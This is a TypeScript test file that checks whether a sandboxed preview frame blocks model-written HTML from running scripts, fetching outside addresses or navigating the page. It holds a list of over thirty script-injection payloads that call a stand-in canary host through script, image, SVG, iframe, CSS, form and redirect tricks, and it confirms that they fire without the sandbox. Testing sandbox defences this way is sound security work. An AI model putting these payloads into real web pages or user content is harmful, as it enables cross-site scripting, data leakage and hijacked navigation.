import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { Api, Engines } from '../api/stack.js';
import { launchChromium } from '../harness/chromium.js';

// Stands for the address of the server that counts what really gets out.
const CANARY = 'http://canary.invalid';

/** What a model may write into the design of a page. Each asks for an address with its number when it runs, loads or leads somewhere. */
const PAYLOADS: ((n: number) => string)[] = [
  (n) => `<script>fetch('${CANARY}/${n}')</script>`,
  (n) => `<script src="${CANARY}/${n}"></script>`,
  (n) => `<script type="module">import '${CANARY}/${n}'</script>`,
  (n) => `<img src="${CANARY}/${n}">`,
  (n) => `<img src=x onerror="fetch('${CANARY}/${n}')">`,
  (n) => `<img srcset="${CANARY}/${n} 1x">`,
  (n) => `<svg onload="fetch('${CANARY}/${n}')"></svg>`,
  (n) => `<svg><script>fetch('${CANARY}/${n}')</script></svg>`,
  (n) => `<svg><image href="${CANARY}/${n}"/></svg>`,
  (n) => `<svg><use href="${CANARY}/${n}#a"/></svg>`,
  (n) => `<svg><animate onbegin="fetch('${CANARY}/${n}')" attributeName="x" dur="1s"/></svg>`,
  (n) => `<math><mtext><img src onerror="fetch('${CANARY}/${n}')"></mtext></math>`,
  (n) => `<iframe src="${CANARY}/${n}"></iframe>`,
  (n) => `<iframe srcdoc="<script>fetch('${CANARY}/${n}')</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.fetch('${CANARY}/${n}')"></iframe>`,
  (n) => `<object data="${CANARY}/${n}"></object>`,
  (n) => `<embed src="${CANARY}/${n}">`,
  (n) => `<link rel="stylesheet" href="${CANARY}/${n}">`,
  (n) => `<link rel="preload" as="image" href="${CANARY}/${n}">`,
  (n) => `<link rel="prefetch" href="${CANARY}/${n}">`,
  (n) => `<style>@import url(${CANARY}/${n});</style>`,
  (n) => `<style>body { background: url(${CANARY}/${n}) }</style>`,
  (n) => `<div style="width: 9px; height: 9px; background-image: url(${CANARY}/${n})"></div>`,
  (n) => `<style>@font-face { font-family: a; src: url(${CANARY}/${n}) } p { font-family: a }</style><p>a</p>`,
  (n) => `<video autoplay src="${CANARY}/${n}"></video>`,
  (n) => `<audio autoplay src="${CANARY}/${n}"></audio>`,
  (n) => `<video><source src="${CANARY}/${n}" onerror="fetch('${CANARY}/${n}')"></video>`,
  (n) => `<meta http-equiv="refresh" content="0;url=${CANARY}/${n}">`,
  (n) => `<body onload="fetch('${CANARY}/${n}')">`,
  (n) => `<input autofocus onfocus="fetch('${CANARY}/${n}')">`,
  (n) => `<details open ontoggle="fetch('${CANARY}/${n}')">x</details>`,
  (n) => `<base href="${CANARY}/${n}/"><img src="relative.png">`,
  (n) => `<form id="f${n}" action="${CANARY}/${n}"><input name="a"></form><script>document.getElementById('f${n}').submit()</script>`,
  () => `<script>top.location = '${CANARY}/top'</script>`,
  () => `<script>parent.document.title = 'taken'; top.taken = true</script>`,
  () => `<script>window.open('${CANARY}/window'); alert(1)</script>`,
  () => `<a id="lead" href="${CANARY}/lead" target="_top" style="position: fixed; inset: 0; display: block">click</a>`,
];

// As text: the sources of tests know no DOM. Resolves when every frame has loaded.
const SHOW_FRAMES = `(urls) => Promise.all(urls.map((src) => {
  const frame = document.createElement('iframe');
  frame.setAttribute('sandbox', '');
  frame.src = src;
  const loaded = new Promise((resolve) => frame.addEventListener('load', () => resolve(src)));
  document.body.append(frame);
  return loaded;
}))`;

it('the hostile pages are many, and each asks for an address of its own', () => {
  const pages = PAYLOADS.map((payload, index) => payload(index));
  expect(pages.length).toBeGreaterThan(30);
  expect(new Set(pages).size).toBe(pages.length);
  expect(pages.filter((html) => !html.includes(CANARY) && !html.includes('taken'))).toEqual([]);
});

describe('HTML that a model wrote, in the frame of a preview', () => {
  let engines: Engines;
  let api: Api;
  let browser: Browser;
  let canary: Server;
  /** The paths that got out. */
  const asked: string[] = [];
  beforeAll(async () => {
    engines = await Engines.start({ temporal: false });
    api = await Api.start(engines, { background: false });
    canary = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser.close();
    canary.closeAllConnections();
    canary.close();
    await api.stop();
    await engines.stop();
  });

  /** What payload number `n` is here. */
  const hostile = (n: number) => (PAYLOADS[n]?.(n) ?? '').replaceAll(CANARY, `http://127.0.0.1:${(canary.address() as AddressInfo).port}`);

  async function watched(): Promise<{ page: Page; opened: string[] }> {
    const page = await browser.newPage();
    const opened: string[] = [];
    page.on('dialog', (dialog) => (opened.push('dialog'), void dialog.dismiss()));
    page.on('popup', () => opened.push('window'));
    return { page, opened };
  }

  async function previewsOf(payloads: string[]): Promise<string[]> {
    const build = await api.create();
    const urls: string[] = [];
    for (const [index, html] of payloads.entries()) {
      const id = `art-hostile${index}`;
      await engines.sql(`insert into artifacts (id, build_id, name, media_type, bytes, sha256, content) values ($1, $2, $1, 'text/html', 1, 'x', $3)`, [
        id,
        build,
        `<!doctype html><title>x</title>${html}`,
      ]);
      urls.push(String((await api.ask('POST', `/api/artifacts/${id}/preview`)).body['url']));
    }
    return urls;
  }

  it('runs nothing, asks for nothing and leads nowhere, in the frame and opened by itself', async () => {
    const previews = await previewsOf(PAYLOADS.map((_payload, index) => hostile(index)));
    const { page, opened } = await watched();
    // Any page of ours will do; this one needs no session.
    const home = `${api.url}/auth/link/none`;
    await page.goto(home);
    await page.evaluate(`(${SHOW_FRAMES})(${JSON.stringify(previews)})`);
    await page.locator('iframe').last().click({ force: true });
    expect([page.url(), await page.title(), await page.evaluate<boolean>("'taken' in window")]).toEqual([home, expect.not.stringContaining('taken'), false]);
    // Somebody copies the address of a frame into a tab: the policy locks it up by itself.
    for (const url of previews.slice(0, -1)) await page.goto(api.url + url);
    expect({ asked, opened }).toEqual({ asked: [], opened: [] });
    await page.close();
  });

  it('would have, without the frame and the policy', async () => {
    const { page } = await watched();
    const harmless = PAYLOADS.map((_payload, index) => hostile(index)).filter((html) => !/refresh|submit|top\.|window\.open|base href/.test(html));
    for (const html of harmless) await page.setContent(`${html}<p>end</p>`, { waitUntil: 'load' }).catch(() => undefined);
    expect(new Set(asked).size).toBeGreaterThan(harmless.length / 2);
    await page.close();
  });
});
